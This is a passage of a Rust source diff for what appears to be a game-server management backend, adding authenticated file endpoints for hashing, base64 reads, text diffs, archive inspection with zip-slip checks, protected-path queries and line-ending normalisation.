+            Ok(_) => "Checksum computed".to_string(),
+            Err(e) => format!("Failed to compute checksum, {e}"),
+        };
+        event_broadcaster.send(fs_operation_end_event(
+            event_id,
+            &uuid,
+            &caused_by,
+            ret.is_ok(),
+            message,
+        ));
+        ret
+    }));
+    // the request is dropped when the client disconnects, nobody waits for the checksum anymore
+    let cancel_on_disconnect = cancel.drop_guard();
+    let ret = hashing.await.context("Failed to hash file")?;
+    cancel_on_disconnect.disarm();
+    ret
 }
 
-async fn upload_instance_file(
+/// Size of the file to hash, a directory has no checksum and is not found like a missing file
+async fn hashable_file_size(path: &std::path::Path) -> Result<u64, Error> {
+    let not_found = || Error {
+        kind: ErrorKind::NotFound,
+        source: eyre!("File not found"),
+    };
+    match tokio::fs::metadata(path).await {
+        Ok(metadata) if metadata.is_file() => Ok(metadata.len()),
+        Ok(_) => Err(not_found()),
+        Err(e) if e.kind() == std::io::ErrorKind::NotFound => Err(not_found()),
+        Err(e) => Err(e)
+            .context("Failed to read file metadata")
+            .map_err(Into::into),
+    }
+}
+
+/// Hex digest of a file. Files larger than `HASH_PROGRESS_THRESHOLD` report their progress and
+/// can be cancelled while the request waits for the digest
+async fn hash_instance_file(
     axum::extract::State(state): axum::extract::State<AppState>,
     Path((uuid, base64_relative_path)): Path<(InstanceUuid, String)>,
-    headers: HeaderMap,
+    Query(path_query): Query<RelativePathQuery>,
+    Query(hash_query): Query<HashQuery>,
     AuthBearer(token): AuthBearer,
-    mut multipart: Multipart,
-) -> Result<Json<()>, Error> {
-    let relative_path = decode_base64(&base64_relative_path)?;
-    let requester = state.users_manager.read().await.try_auth_or_err(&token)?;
-    requester.try_action(
-        &UserAction::WriteInstanceFile(uuid.clone()),
-        state.global_settings.lock().await.safe_mode(),
-    )?;
-    let caused_by = CausedBy::User {
-        user_id: requester.uid.clone(),
-        user_name: requester.username.clone(),
-    };
+) -> Result<Json<String>, Error> {
+    let relative_path = resolve_relative_path(&base64_relative_path, &path_query)?;
+    let requester = authorize(&state, &token).await?;
+    requester.try_action(&UserAction::ReadInstanceFile(uuid.clone()))?;
     let instance = state.instances.get(&uuid).ok_or_else(|| Error {
         kind: ErrorKind::NotFound,
         source: eyre!("Instance not found"),
     })?;
     let root = instance.path().await;
     drop(instance);
-    let path_to_dir = scoped_join_win_safe(&root, relative_path)?;
-    crate::util::fs::create_dir_all(&path_to_dir).await?;
-
-    let total = headers
-        .get(CONTENT_LENGTH)
-        .and_then(|v| v.to_str().ok())
-        .and_then(|v| v.parse::<f64>().ok());
-    let (progression_start_event, event_id) =
-        Event::new_progression_event_start("Uploading files", total, None, caused_by.clone());
-    state.event_broadcaster.send(progression_start_event);
-    while let Ok(Some(mut field)) = multipart.next_field().await {
-        let name = field.file_name().ok_or_else(|| Error {
-            kind: ErrorKind::BadRequest,
-            source: eyre!("Missing file name"),
-        })?;
-        let name = sanitize_filename::sanitize(name);
-        let path = resolve_path_conflict(scoped_join_win_safe(&path_to_dir, &name)?, None);
-        // if the file has a protected extension, or no extension, deny
-        if !requester.can_perform_action(&UserAction::WriteGlobalFile) && is_path_protected(&path) {
-            return Err(Error {
-                kind: ErrorKind::PermissionDenied,
-                source: eyre!("File extension is protected"),
-            });
-        }
-        let path = resolve_path_conflict(path, None);
-
-        let mut file = crate::util::fs::create(&path).await?;
+    let path = scoped_join_win_safe(root, relative_path)?;
+    let size = hashable_file_size(&path).await?;
 
-        let threshold = total.unwrap_or(500000.0) / 100.0;
+    let caused_by = CausedBy::User {
+        user_id: requester.uid.clone(),
+        user_name: requester.username.clone(),
+    };
+    let digest = if size > HASH_PROGRESS_THRESHOLD {
+        hash_and_report(
+            state.event_broadcaster.clone(),
+            &state.upload_sessions,
+            path.clone(),
+            size,
+            hash_query.algorithm,
+            uuid,
+            requester.uid.clone(),
+            caused_by.clone(),
+        )
+        .await?
+    } else {
+        hash_file(
+            path.clone(),
+            hash_query.algorithm,
+            CancellationToken::new(),
+            |_| {},
+        )
+        .await?
+    };
+    state.event_broadcaster.send(new_fs_event(
+        FSOperation::Read,
+        FSTarget::File(path),
+        caused_by,
+    ));
+    Ok(Json(digest))
+}
 
-        let mut elapsed_bytes = 0_u64;
-        let mut last_progression = 0_u64;
+// files read inline as base64 are meant to be small, e.g. icons
+const READ_BASE64_MAX_SIZE: u64 = 1024 * 1024;
 
-        while let Some(chunk) = match field.chunk().await {
-            Ok(v) => v,
-            Err(e) => {
-                tokio::fs::remove_file(&path).await.ok();
-                state
-                    .event_broadcaster
-                    .send(Event::new_progression_event_end(
-                        event_id,
-                        false,
-                        Some(&e.to_string()),
-                        Some(ProgressionEndValue::FSOperationCompleted {
-                            instance_uuid: uuid.clone(),
-                            success: false,
-                            message: format!("Failed to upload file {name}, {e}"),
-                        }),
-                    ));
-                return Err::<Json<()>, axum::extract::multipart::MultipartError>(e)
-                    .context("Failed to read chunk")
-                    .map_err(Error::from);
-            }
-        } {
-            elapsed_bytes += chunk.len() as u64;
-            let progression = (elapsed_bytes as f64 / threshold).floor() as u64;
-            if progression > last_progression {
-                last_progression = progression;
-                state
-                    .event_broadcaster
-                    .send(Event::new_progression_event_update(
-                        &event_id,
-                        if let Some(total) = total {
-                            format!(
-                                "Uploading {name}, {}",
-                                format_byte_download(elapsed_bytes, total as u64)
-                            )
-                        } else {
-                            format!("Uploading {name}, {} uploaded", format_byte(elapsed_bytes))
-                        },
-                        threshold,
-                    ));
-            }
-            match file.write_all(&chunk).await {
-                Ok(v) => v,
-                Err(e) => {
-                    tokio::fs::remove_file(&path).await.ok();
-                    state
-                        .event_broadcaster
-                        .send(Event::new_progression_event_end(
-                            event_id,
-                            false,
-                            Some(&e.to_string()),
-                            Some(ProgressionEndValue::FSOperationCompleted {
-                                instance_uuid: uuid.clone(),
-                                success: false,
-                                message: format!("Failed to upload file {name}, {e}"),
-                            }),
-                        ));
-                    return Err::<Json<()>, std::io::Error>(e)
-                        .context("Failed to write chunk")
-                        .map_err(Error::from);
-                }
-            };
-        }
+#[derive(Serialize, TS, Debug, PartialEq, Eq)]
+#[ts(export)]
+struct ReadBase64Response {
+    /// detected from the content, falls back to the extension then `application/octet-stream`
+    mime_type: String,
+    size: u64,
+    /// standard base64 with padding, can be used as is in a data url
+    content: String,
+}
 
-        state.event_broadcaster.send(new_fs_event(
-            FSOperation::Upload,
-            FSTarget::File(path),
-            caused_by.clone(),
-        ));
+async fn read_file_base64(
+    path: &std::path::Path,
+    max_size: u64,
+) -> Result<ReadBase64Response, Error> {
+    let size = tokio::fs::metadata(path)
+        .await
+        .context("Failed to read file metadata")?
+        .len();
+    if size > max_size {
+        return Err(Error {
+            kind: ErrorKind::BadRequest,
+            source: eyre!(
+                "File is too large to read inline ({}), at most {} allowed, use a download instead",
+                format_byte(size),
+                format_byte(max_size)
+            ),
+        });
     }
-    state
-        .event_broadcaster
-        .send(Event::new_progression_event_end(
-            event_id,
-            true,
-            Some("Upload complete"),
-            Some(ProgressionEndValue::FSOperationCompleted {
-                instance_uuid: uuid,
-                success: true,
-                message: "File(s) uploaded".to_string(),
-            }),
-        ));
-    Ok(Json(()))
+    let bytes = tokio::fs::read(path).await.context("Failed to read file")?;
+    let mime_type = infer::get(&bytes)
+        .map(|kind| kind.mime_type())
+        .or_else(|| mime_guess::from_path(path).first_raw())
+        .unwrap_or("application/octet-stream");
+    Ok(ReadBase64Response {
+        mime_type: mime_type.to_string(),
+        size: bytes.len() as u64,
+        content: base64::encode(&bytes),
+    })
 }
 
-pub async fn unzip_instance_file(
+async fn read_instance_file_base64(
     axum::extract::State(state): axum::extract::State<AppState>,
     Path((uuid, base64_relative_path)): Path<(InstanceUuid, String)>,
+    Query(path_query): Query<RelativePathQuery>,
     AuthBearer(token): AuthBearer,
-    Json(unzip_option): Json<UnzipOption>,
-) -> Result<Json<()>, Error> {
-    let relative_path = decode_base64(&base64_relative_path)?;
-    let requester = state.users_manager.read().await.try_auth_or_err(&token)?;
-    requester.try_action(
-        &UserAction::WriteInstanceFile(uuid.clone()),
-        state.global_settings.lock().await.safe_mode(),
-    )?;
+) -> Result<Json<ReadBase64Response>, Error> {
+    let relative_path = resolve_relative_path(&base64_relative_path, &path_query)?;
+    let requester = authorize(&state, &token).await?;
+    requester.try_action(&UserAction::ReadInstanceFile(uuid.clone()))?;
     let instance = state.instances.get(&uuid).ok_or_else(|| Error {
         kind: ErrorKind::NotFound,
         source: eyre!("Instance not found"),
     })?;
     let root = instance.path().await;
     drop(instance);
-    let path_to_zip_file = scoped_join_win_safe(root, &relative_path)?;
+    let path = scoped_join_win_safe(root, relative_path)?;
 
-    if let UnzipOption::ToDir(ref dir) = unzip_option {
-        if !requester.can_perform_action(&UserAction::WriteGlobalFile) && is_path_protected(dir) {
-            return Err(Error {
-                kind: ErrorKind::PermissionDenied,
-                source: eyre!("Destination is protected"),
-            });
-        }
-    }
-    let event_broadcaster = state.event_broadcaster.clone();
-    tokio::spawn(async move {
-        let (progression_event_start, event_id) = Event::new_progression_event_start(
-            format!("Unzipping {relative_path}"),
-            None,
-            None,
-            CausedBy::User {
-                user_id: requester.uid.clone(),
-                user_name: requester.username.clone(),
-            },
-        );
+    let ret = read_file_base64(&path, READ_BASE64_MAX_SIZE).await?;
+    let caused_by = CausedBy::User {
+        user_id: requester.uid.clone(),
+        user_name: requester.username.clone(),
+    };
+    state.event_broadcaster.send(new_fs_event(
+        FSOperation::Read,
+        FSTarget::File(path),
+        caused_by,
+    ));
+    Ok(Json(ret))
+}
 
-        event_broadcaster.send(progression_event_start);
+// both files are held in memory while diffing
+const DIFF_MAX_SIZE: u64 = 1024 * 1024;
 
-        if let Err(e) = unzip_file_async(path_to_zip_file, unzip_option).await {
-            event_broadcaster.send(Event::new_progression_event_end(
-                event_id,
-                false,
-                Some(&format!("Unzip failed: {}", e)),
-                Some(ProgressionEndValue::FSOperationCompleted {
-                    instance_uuid: uuid,
-                    success: false,
-                    message: format!("Unzip {} failed : {e}", relative_path),
-                }),
-            ));
-        } else {
-            event_broadcaster.send(Event::new_progression_event_end(
-                event_id,
-                true,
-                Some("Unzip complete"),
-                Some(ProgressionEndValue::FSOperationCompleted {
-                    instance_uuid: uuid,
-                    success: true,
-                    message: format!("Unzipped {relative_path}"),
-                }),
-            ));
-        }
-    });
+/// Whether the content is text: valid UTF-8 without NUL bytes, and not a known binary format
+fn is_text_content(bytes: &[u8]) -> bool {
+    let binary_kind = infer::get(bytes)
+        .filter(|kind| kind.matcher_type() != infer::MatcherType::Text)
+        .is_some();
+    !binary_kind && !bytes.contains(&0) && std::str::from_utf8(bytes).is_ok()
+}
 
-    Ok(Json(()))
+async fn read_text_for_diff(path: &std::path::Path, max_size: u64) -> Result<String, Error> {
+    let name = path
+        .file_name()
+        .map(|name| name.to_string_lossy().into_owned())
+        .unwrap_or_default();
+    let size = tokio::fs::metadata(path)
+        .await
+        .context(format!("Failed to read metadata of {name}"))?
+        .len();
+    if size > max_size {
+        return Err(Error {
+            kind: ErrorKind::BadRequest,
+            source: eyre!(
+                "{name} is too large to diff ({}), at most {} allowed",
+                format_byte(size),
+                format_byte(max_size)
+            ),
+        });
+    }
+    let bytes = tokio::fs::read(path)
+        .await
+        .context(format!("Failed to read {name}"))?;
+    if !is_text_content(&bytes) {
+        return Err(Error {
+            kind: ErrorKind::BadRequest,
+            source: eyre!("{name} is not a text file"),
+        });
+    }
+    Ok(String::from_utf8(bytes).context(format!("{name} is not a text file"))?)
 }
 
-#[derive(Deserialize, TS)]
-#[ts(export)]
-struct ZipRequest {
-    target_relative_paths: Vec<PathBuf>,
-    destination_relative_path: PathBuf,
+/// Unified diff of two text files, empty when they are identical
+async fn diff_files(
+    path_a: &std::path::Path,
+    name_a: &str,
+    path_b: &std::path::Path,
+    name_b: &str,
+    max_size: u64,
+) -> Result<String, Error> {
+    let a = read_text_for_diff(path_a, max_size).await?;
+    let b = read_text_for_diff(path_b, max_size).await?;
+    if a == b {
+        return Ok(String::new());
+    }
+    Ok(similar::TextDiff::from_lines(&a, &b)
+        .unified_diff()
+        .header(&format!("a/{name_a}"), &format!("b/{name_b}"))
+        .to_string())
 }
 
-async fn zip_instance_files(
+#[derive(Deserialize)]
+struct DiffQuery {
+    /// base64 encoded relative paths of the files to compare
+    a: String,
+    b: String,
+}
+
+async fn diff_instance_files(
     axum::extract::State(state): axum::extract::State<AppState>,
     Path(uuid): Path<InstanceUuid>,
+    Query(DiffQuery { a, b }): Query<DiffQuery>,
     AuthBearer(token): AuthBearer,
-    Json(zip_request): Json<ZipRequest>,
-) -> Result<Json<()>, Error> {
-    let requester = state.users_manager.read().await.try_auth_or_err(&token)?;
-    requester.try_action(
-        &UserAction::WriteInstanceFile(uuid.clone()),
-        state.global_settings.lock().await.safe_mode(),
-    )?;
+) -> Result<String, Error> {
+    let relative_path_a = decode_base64(&a)?;
+    let relative_path_b = decode_base64(&b)?;
+    let requester = authorize(&state, &token).await?;
+    // both files are in the same instance, so reading one means being allowed to read the other
+    requester.try_action(&UserAction::ReadInstanceFile(uuid.clone()))?;
     let instance = state.instances.get(&uuid).ok_or_else(|| Error {
         kind: ErrorKind::NotFound,
         source: eyre!("Instance not found"),
     })?;
     let root = instance.path().await;
     drop(instance);
-    let ZipRequest {
-        mut target_relative_paths,
-        mut destination_relative_path,
-    } = zip_request;
+    let path_a = scoped_join_win_safe(&root, &relative_path_a)?;
+    let path_b = scoped_join_win_safe(&root, &relative_path_b)?;
 
-    // apply scoped_join_win_safe to all paths
-    for path in &mut target_relative_paths {
-        *path = scoped_join_win_safe(&root, &*path)?;
+    let ret = diff_files(
+        &path_a,
+        &relative_path_a,
+        &path_b,
+        &relative_path_b,
+        DIFF_MAX_SIZE,
+    )
+    .await?;
+    let caused_by = CausedBy::User {
+        user_id: requester.uid.clone(),
+        user_name: requester.username.clone(),
+    };
+    for path in [path_a, path_b] {
+        state.event_broadcaster.send(new_fs_event(
+            FSOperation::Read,
+            FSTarget::File(path),
+            caused_by.clone(),
+        ));
     }
-    destination_relative_path = scoped_join_win_safe(&root, &destination_relative_path)?;
+    Ok(ret)
+}
 
-    if !requester.can_perform_action(&UserAction::ReadGlobalFile)
-        && is_path_protected(&destination_relative_path)
-    {
-        return Err(Error {
-            kind: ErrorKind::PermissionDenied,
-            source: eyre!("Destination is protected"),
-        });
-    }
+#[derive(Serialize, TS, Debug, PartialEq, Eq)]
+#[ts(export)]
+struct ArchiveContentEntry {
+    /// name as stored in the archive
+    name: String,
+    /// uncompressed size in bytes
+    size: u64,
+    is_dir: bool,
+    /// the entry would be written outside of the destination (zip-slip)
+    escapes_destination: bool,
+    /// the entry would be written to a protected path
+    protected: bool,
+}
 
-    let event_broadcaster = state.event_broadcaster.clone();
+#[derive(Serialize, TS, Debug, PartialEq, Eq)]
+#[ts(export)]
+struct ArchiveContents {
+    entries: Vec<ArchiveContentEntry>,
+    total_uncompressed_size: u64,
+    /// at least one entry escapes the destination or targets a protected path
+    has_unsafe_entries: bool,
+}
 
-    tokio::spawn(async move {
-        let aggregate_name = {
-            let combined_file_name = target_relative_paths
-                .iter()
-                .map(|p| p.file_name().unwrap().to_string_lossy())
-                .collect::<Vec<_>>()
-                .join(", ");
-            if combined_file_name.len() < 100 {
-                combined_file_name
-            } else {
-                format!("{} files", target_relative_paths.len())
+/// Where an archive entry lands relative to the directory it's extracted to, `None` if it
+/// would end up outside of it
+fn archive_entry_destination(name: &str) -> Option<PathBuf> {
+    let mut path = PathBuf::new();
+    // archives made on windows may use backslashes
+    for component in std::path::Path::new(&name.replace('\\', "/")).components() {
+        match component {
+            Component::Normal(part) => path.push(part),
+            Component::CurDir => {}
+            Component::ParentDir => {
+                if !path.pop() {
+                    return None;
+                }
             }
-        };
-        let (progression_start_event, event_id) = Event::new_progression_event_start(
-            format!("Zipping {aggregate_name}"),
+            Component::RootDir | Component::Prefix(_) => return None,
+        }
+    }
+    Some(path)
+}
+
+/// Same rule as `is_path_protected` for an entry that isn't on disk yet
+fn is_archive_entry_protected(
+    protected: &ProtectedPaths,
+    path: &std::path::Path,
+    is_dir: bool,
+) -> bool {
+    if is_dir {
+        path.file_name()
+            .and_then(|s| s.to_str().map(|s| protected.protects_dir_name(s)))
+            .unwrap_or(false)
+    } else {
+        is_path_protected(protected, path)
+    }
+}
+
+fn inspect_archive(
+    archive: &std::path::Path,
+    destination: &std::path::Path,
+    protected: &ProtectedPaths,
+) -> Result<ArchiveContents, Error> {
+    let entries: Vec<ArchiveContentEntry> = list_archive_entries(archive)?
+        .into_iter()
+        .map(|entry| {
+            let (escapes_destination, protected) = match archive_entry_destination(&entry.name) {
+                Some(relative) => (
+                    false,
+                    is_archive_entry_protected(
+                        protected,
+                        &destination.join(relative),
+                        entry.is_dir,
+                    ),
+                ),
+                None => (true, false),
+            };
+            ArchiveContentEntry {
+                name: entry.name,
+                size: entry.size,
+                is_dir: entry.is_dir,
+                escapes_destination,
+                protected,
+            }
+        })
+        .collect();
+    Ok(ArchiveContents {
+        total_uncompressed_size: entries.iter().map(|entry| entry.size).sum(),
+        has_unsafe_entries: entries
+            .iter()
+            .any(|entry| entry.escapes_destination || entry.protected),
+        entries,
+    })
+}
+
+#[derive(Deserialize)]
+struct ArchiveContentsQuery {
+    /// relative path of the directory it would be extracted to, next to the archive by default
+    destination: Option<String>,
+}
+
+/// List what extracting an archive would write, without extracting it
+async fn get_instance_archive_contents(
+    axum::extract::State(state): axum::extract::State<AppState>,
+    Path((uuid, base64_relative_path)): Path<(InstanceUuid, String)>,
+    Query(path_query): Query<RelativePathQuery>,
+    Query(ArchiveContentsQuery { destination }): Query<ArchiveContentsQuery>,
+    AuthBearer(token): AuthBearer,
+) -> Result<Json<ArchiveContents>, Error> {
+    let relative_path = resolve_relative_path(&base64_relative_path, &path_query)?;
+    let requester = authorize(&state, &token).await?;
+    requester.try_action(&UserAction::ReadInstanceFile(uuid.clone()))?;
+    let instance = state.instances.get(&uuid).ok_or_else(|| Error {
+        kind: ErrorKind::NotFound,
+        source: eyre!("Instance not found"),
+    })?;
+    let root = instance.path().await;
+    drop(instance);
+    let path = scoped_join_win_safe(&root, relative_path)?;
+    if !path.is_file() {
+        return Err(Error {
+            kind: ErrorKind::NotFound,
+            source: eyre!("Archive not found"),
+        });
+    }
+    let destination = match destination {
+        Some(destination) => scoped_join_win_safe(&root, destination)?,
+        None => path.parent().unwrap_or(&root).to_path_buf(),
+    };
+    let protected = read_protected_paths(&root).await;
+    let contents =
+        tokio::task::spawn_blocking(move || inspect_archive(&path, &destination, &protected))
+            .await
+            .context("Failed to inspect archive")??;
+    Ok(Json(contents))
+}
+
+/// Key fields of a world's `level.dat`, parsed without the client downloading it
+async fn get_instance_level_summary(
+    axum::extract::State(state): axum::extract::State<AppState>,
+    Path((uuid, base64_relative_path)): Path<(InstanceUuid, String)>,
+    Query(path_query): Query<RelativePathQuery>,
+    AuthBearer(token): AuthBearer,
+) -> Result<Json<LevelSummary>, Error> {
+    let relative_path = resolve_relative_path(&base64_relative_path, &path_query)?;
+    let requester = authorize(&state, &token).await?;
+    requester.try_action(&UserAction::ReadInstanceFile(uuid.clone()))?;
+    let instance = state.instances.get(&uuid).ok_or_else(|| Error {
+        kind: ErrorKind::NotFound,
+        source: eyre!("Instance not found"),
+    })?;
+    let root = instance.path().await;
+    drop(instance);
+    let path = scoped_join_win_safe(&root, relative_path)?;
+    if !path.is_file() {
+        return Err(Error {
+            kind: ErrorKind::NotFound,
+            source: eyre!("File not found"),
+        });
+    }
+    Ok(Json(read_level_summary(&path).await?))
+}
+
+async fn get_instance_file_annotation(
+    axum::extract::State(state): axum::extract::State<AppState>,
+    Path((uuid, base64_relative_path)): Path<(InstanceUuid, String)>,
+    Query(path_query): Query<RelativePathQuery>,
+    AuthBearer(token): AuthBearer,
+) -> Result<Json<Option<String>>, Error> {
+    let relative_path = resolve_relative_path(&base64_relative_path, &path_query)?;
+    let requester = authorize(&state, &token).await?;
+    requester.try_action(&UserAction::ReadInstanceFile(uuid.clone()))?;
+    let instance = state.instances.get(&uuid).ok_or_else(|| Error {
+        kind: ErrorKind::NotFound,
+        source: eyre!("Instance not found"),
+    })?;
+    let root = instance.path().await;
+    drop(instance);
+    let path = scoped_join_win_safe(&root, relative_path)?;
+    Ok(Json(get_file_annotation(&root, &path).await))
+}
+
+/// Whether writing to the path is refused for the requester because of its extension or directory
+async fn get_instance_file_is_protected(
+    axum::extract::State(state): axum::extract::State<AppState>,
+    Path((uuid, base64_relative_path)): Path<(InstanceUuid, String)>,
+    Query(path_query): Query<RelativePathQuery>,
+    AuthBearer(token): AuthBearer,
+) -> Result<Json<bool>, Error> {
+    let relative_path = resolve_relative_path(&base64_relative_path, &path_query)?;
+    let requester = authorize(&state, &token).await?;
+    requester.try_action(&UserAction::ReadInstanceFile(uuid.clone()))?;
+    let instance = state.instances.get(&uuid).ok_or_else(|| Error {
+        kind: ErrorKind::NotFound,
+        source: eyre!("Instance not found"),
+    })?;
+    let root = instance.path().await;
+    drop(instance);
+    let path = scoped_join_win_safe(&root, relative_path)?;
+    let protected = read_protected_paths(&root).await;
+    Ok(Json(is_path_protected_for(&requester, &protected, &path)))
+}
+
+/// Operation of the file API, as offered in a file browser's context menu
+#[derive(Serialize, Deserialize, TS, Debug, Clone, Copy, PartialEq, Eq)]
+#[serde(rename_all = "snake_case")]
+#[ts(export)]
+enum FileAction {
+    List,
+    Read,
+    Edit,
+    Download,
+    Upload,
+    Copy,
+    Move,
+    Delete,
+    Zip,
+    Unzip,
+}
+
+// bytes of a file looked at to tell text from binary
+const TEXT_SNIFF_SIZE: usize = 8 * 1024;
+
+/// Whether the start of the file is text, gzipped files by their decompressed content
+async fn is_text_file(path: &std::path::Path) -> Result<bool, Error> {
+    let head = if is_gzipped(path) {
+        read_gzipped(path, Some(TEXT_SNIFF_SIZE as u64)).await?
+    } else {
+        let mut head = Vec::with_capacity(TEXT_SNIFF_SIZE);
+        tokio::fs::File::open(path)
+            .await
+            .context("Failed to open file")?
+            .take(TEXT_SNIFF_SIZE as u64)
+            .read_to_end(&mut head)
+            .await
+            .context("Failed to read file")?;
+        head
+    };
+    // a character cut in half by the sniff size doesn't make the file binary
+    let head = match std::str::from_utf8(&head) {
+        Err(e) if e.error_len().is_none() => &head[..e.valid_up_to()],
+        _ => &head[..],
+    };
+    Ok(is_text_content(head))
+}
+
+/// Archives `unzip` extracts, a gzipped file that isn't a tarball is read as the file it holds
+fn is_extractable_archive(path: &std::path::Path) -> bool {
+    let name = path
+        .file_name()
+        .map(|name| name.to_string_lossy().to_lowercase())
+        .unwrap_or_default();
+    name.ends_with(".zip") || name.ends_with(".tgz") || name.ends_with(".tar.gz")
+}
+
+/// Operations `requester` can perform on `path`, from what the path is and the same checks the
+/// operations make. Destinations are only known once an operation is requested, they are
+/// checked then
+async fn path_actions(
+    requester: &AuthorizedUser,
+    uuid: &InstanceUuid,
+    root: &std::path::Path,
+    path: &std::path::Path,
+) -> Result<Vec<FileAction>, Error> {
+    let metadata = tokio::fs::metadata(path).await.map_err(|e| Error {
+        kind: ErrorKind::NotFound,
+        source: eyre!("Failed to read {}: {e}", path.display()),
+    })?;
+    let can_read = requester
+        .try_action(&UserAction::ReadInstanceFile(uuid.clone()))
+        .is_ok();
+    let can_write = requester
+        .try_action(&UserAction::WriteInstanceFile(uuid.clone()))
+        .is_ok();
+    let writable_paths = read_writable_paths(root).await;
+    let protected = read_protected_paths(root).await;
+    let bypass = requester.can_perform_action(&UserAction::WriteGlobalFile);
+    let in_writable_paths = |path: &std::path::Path| bypass || writable_paths.allows(root, path);
+    // the path itself can be changed or removed
+    let can_change = can_write
+        && !is_path_protected_for(requester, &protected, path)
+        && in_writable_paths(path)
+        && path != root
+        && !is_in_console_log_dir(root, path);
+
+    let mut actions = Vec::new();
+    if metadata.is_dir() {
+        if can_read {
+            actions.extend([FileAction::List, FileAction::Download]);
+        }
+        if can_write && in_writable_paths(path) && !is_in_console_log_dir(root, path) {
+            actions.push(FileAction::Upload);
+        }
+    } else {
+        if can_read {
+            if is_text_file(path).await? {
+                actions.push(FileAction::Read);
+                if can_change {
+                    actions.push(FileAction::Edit);
+                }
+            }
+            actions.push(FileAction::Download);
+        }
+        let extracts_into = path.parent().unwrap_or(root);
+        if can_read && can_write && is_extractable_archive(path) && in_writable_paths(extracts_into)
+        {
+            actions.push(FileAction::Unzip);
+        }
+    }
+    if can_read && can_write {
+        actions.extend([FileAction::Copy, FileAction::Zip]);
+    }
+    if can_change {
+        actions.extend([FileAction::Move, FileAction::Delete]);
+    }
+    Ok(actions)
+}
+
+async fn get_instance_file_actions(
+    axum::extract::State(state): axum::extract::State<AppState>,
+    Path((uuid, base64_relative_path)): Path<(InstanceUuid, String)>,
+    Query(path_query): Query<RelativePathQuery>,
+    AuthBearer(token): AuthBearer,
+) -> Result<Json<Vec<FileAction>>, Error> {
+    let relative_path = resolve_relative_path(&base64_relative_path, &path_query)?;
+    let requester = authorize(&state, &token).await?;
+    requester.try_action(&UserAction::ReadInstanceFile(uuid.clone()))?;
+    let instance = state.instances.get(&uuid).ok_or_else(|| Error {
+        kind: ErrorKind::NotFound,
+        source: eyre!("Instance not found"),
+    })?;
+    let root = instance.path().await;
+    drop(instance);
+    let path = scoped_join_win_safe(&root, relative_path)?;
+    let timeout = state.global_settings.lock().await.fs_read_timeout();
+    Ok(Json(
+        with_fs_timeout(timeout, path_actions(&requester, &uuid, &root, &path)).await?,
+    ))
+}
+
+/// Set the note shown next to a file when listing, `null` removes it
+async fn set_instance_file_annotation(
+    axum::extract::State(state): axum::extract::State<AppState>,
+    Path((uuid, base64_relative_path)): Path<(InstanceUuid, String)>,
+    Query(path_query): Query<RelativePathQuery>,
+    AuthBearer(token): AuthBearer,
+    Json(annotation): Json<Option<String>>,
+) -> Result<Json<()>, Error> {
+    let relative_path = resolve_relative_path(&base64_relative_path, &path_query)?;
+    let requester = authorize(&state, &token).await?;
+    requester.try_action(&UserAction::WriteInstanceFile(uuid.clone()))?;
+    let instance = state.instances.get(&uuid).ok_or_else(|| Error {
+        kind: ErrorKind::NotFound,
+        source: eyre!("Instance not found"),
+    })?;
+    let root = instance.path().await;
+    drop(instance);
+    let path = scoped_join_win_safe(&root, relative_path)?;
+    set_file_annotation(&root, &path, annotation).await?;
+    Ok(Json(()))
+}
+
+#[derive(Serialize, TS, Debug, PartialEq, Eq)]
+#[ts(export)]
+struct WriteInstanceFileResponse {
+    /// number of bytes from the request body written to the file
+    bytes_written: u64,
+    /// size of the file on disk after the write
+    file_size: u64,
+}
+
+#[derive(Deserialize, Default, Debug, Clone, Copy, PartialEq, Eq)]
+#[serde(rename_all = "lowercase")]
+enum LineEndings {
+    Lf,
+    Crlf,
+    #[default]
+    Preserve,
+}
+
+#[derive(Deserialize, Default, Debug, Clone)]
+struct LineEndingsQuery {
+    #[serde(default)]
+    line_endings: LineEndings,
+}
+
+/// Rewrite every line break of `content` as `line_endings`, a lone `\r` isn't a line break and
+/// is left alone. Works on bytes so content that isn't UTF-8 passes through untouched
+fn normalize_line_endings(content: Bytes, line_endings: LineEndings) -> Bytes {
+    if line_endings == LineEndings::Preserve {
+        return content;
+    }
+    let mut normalized = Vec::with_capacity(content.len());
+    let mut bytes = content.iter().peekable();
+    while let Some(&byte) = bytes.next() {
+        match byte {
+            b'\r' if bytes.peek() == Some(&&b'\n') => {}
+            b'\n' if line_endings == LineEndings::Crlf => normalized.extend_from_slice(b"\r\n"),
+            _ => normalized.push(byte),
+        }
+    }
+    Bytes::from(normalized)
+}
+
+async fn write_file_and_report(
+    path: &std::path::Path,
+    body: &[u8],
+) -> Result<WriteInstanceFileResponse, Error> {
+    let mut file = tokio::fs::File::create(path)
+        .await
+        .context("Failed to create file")?;
+    file.write_all(body)
+        .await
+        .context("Failed to write to file")?;
+    file.flush().await.context("Failed to flush file")?;
+    let file_size = file
+        .metadata()
+        .await
+        .context("Failed to read file metadata")?
+        .len();
+    Ok(WriteInstanceFileResponse {
+        bytes_written: body.len() as u64,
+        file_size,
+    })
+}
+
+#[derive(Deserialize, Debug, Clone, Copy, PartialEq, Eq)]
+#[serde(rename_all = "lowercase")]
+enum WriteCompression {
+    /// stored gzipped with a `.gz` suffix, reads and downloads decompress it back
+    Gzip,
+}
+
+#[derive(Deserialize, Default, Debug, Clone)]
+struct CompressQuery {
+    #[serde(default)]
+    compress: Option<WriteCompression>,
+}
+
+/// Where a file written gzipped is stored, `path` with a `.gz` suffix unless it already has one
+fn gzipped_path(path: &std::path::Path) -> PathBuf {
+    if is_gzipped(path) {
+        return path.to_owned();
+    }
+    let mut gzipped = path.as_os_str().to_owned();
+    gzipped.push(".");
+    gzipped.push(GZIP_EXTENSION);
+    PathBuf::from(gzipped)
+}
+
+async fn gzip(content: Bytes) -> Result<Vec<u8>, Error> {
+    tokio::task::spawn_blocking(move || -> Result<Vec<u8>, Error> {
+        let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
+        std::io::Write::write_all(&mut encoder, &content).context("Failed to compress file")?;
+        Ok(encoder.finish().context("Failed to compress file")?)
+    })
+    .await
+    .context("Failed to compress file")?
+}
+
+async fn write_instance_file(
+    axum::extract::State(state): axum::extract::State<AppState>,
+    Path((uuid, base64_relative_path)): Path<(InstanceUuid, String)>,
+    Query(path_query): Query<RelativePathQuery>,
+    Query(world_query): Query<OpenWorldQuery>,
+    Query(line_endings_query): Query<LineEndingsQuery>,
+    Query(compress_query): Query<CompressQuery>,
+    AuthBearer(token): AuthBearer,
+    body: Bytes,
+) -> Result<Json<WriteInstanceFileResponse>, Error> {
+    let relative_path = resolve_relative_path(&base64_relative_path, &path_query)?;
+    let requester = authorize(&state, &token).await?;
